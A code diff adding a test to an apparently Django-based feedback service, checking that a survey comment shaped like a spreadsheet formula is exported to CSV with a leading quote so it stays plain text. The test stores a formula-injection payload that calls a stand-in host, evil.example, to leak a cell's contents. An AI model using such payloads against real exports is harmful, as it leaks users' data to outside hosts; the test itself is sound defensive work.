@@ -343,3 +343,20 @@ def test_hostile_filters_answer_4xx_or_the_page_never_500(world: World, sam: Use
     for user in (sam, bob):
         answer = client_for(user).get(f"{url(world)}?{query}")
         assert answer.status_code in (200, 400, 404), (user, query, answer.status_code)
+
+
+def test_a_comment_that_starts_like_a_formula_is_exported_as_text(world: World, sam: User) -> None:
+    from serviceloop.feedback.models import Response
+
+    respond(
+        world.payroll,
+        "2026-06-20 10:00",
+        happiness=2,
+        comment='=HYPERLINK("http://evil.example/?"&A1,"open")',
+        sentiment_label="negative",
+    )
+    rollups_rebuild()
+    assert Response.objects.filter(comment__startswith="=HYPERLINK").exists()
+    comments = rows_of(client_for(sam).get(url(world, export="comments")))
+    exported = [row["comment"] for row in comments if "HYPERLINK" in row["comment"]]
+    assert exported == ['\'=HYPERLINK("http://evil.example/?"&A1,"open")']
